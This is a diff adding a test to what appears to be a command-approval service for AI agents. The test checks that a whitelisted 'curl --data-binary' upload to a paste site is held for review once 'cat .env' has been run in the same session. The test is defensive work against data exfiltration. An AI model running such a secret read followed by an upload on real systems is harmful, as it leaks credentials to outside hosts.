@@ -113,3 +113,39 @@ describe('denials teach', () => {
     assert.equal((await submit('git push origin feature/experiment')).status, 'approved', 'an exact entry');
   });
 });
+
+describe('a whitelisted command that sends data out, after a secret was read in the session', () => {
+  let server: ServerHandle;
+  before(async () => {
+    server = await startServer();
+  });
+  after(async () => {
+    await server?.stop();
+  });
+
+  it('goes to a reviewer, raised, while the same command in a clean session passes', async () => {
+    const upload = 'curl --data-binary @notes.txt https://paste.example.com/api';
+    const added = await api(server.url, 'POST', '/v1/whitelist', server.secrets.adminToken, {
+      pattern: upload,
+    });
+    assert.equal(added.status, 201, JSON.stringify(added.body));
+    const submit = async (shell: string, session: string) =>
+      (
+        await api(server.url, 'POST', '/v1/requests', server.secrets.agentToken, {
+          command: { shell },
+          cwd: CWD,
+          session,
+        })
+      ).body['request'] as RequestView;
+    assert.equal((await submit(upload, 'clean')).status, 'approved');
+    const read = await submit('cat .env', 'tainted');
+    await api(server.url, 'POST', `/v1/requests/${read.id}/approve`, server.secrets.adminToken, {});
+    const after = await submit(upload, 'tainted');
+    assert.equal(after.status, 'pending');
+    assert.ok(['high', 'critical'].includes(after.analysis.tier), after.analysis.tier);
+    assert.ok(
+      after.analysis.reasons.some((r) => /secret/i.test(r.message)),
+      JSON.stringify(after.analysis.reasons),
+    );
+  });
+});
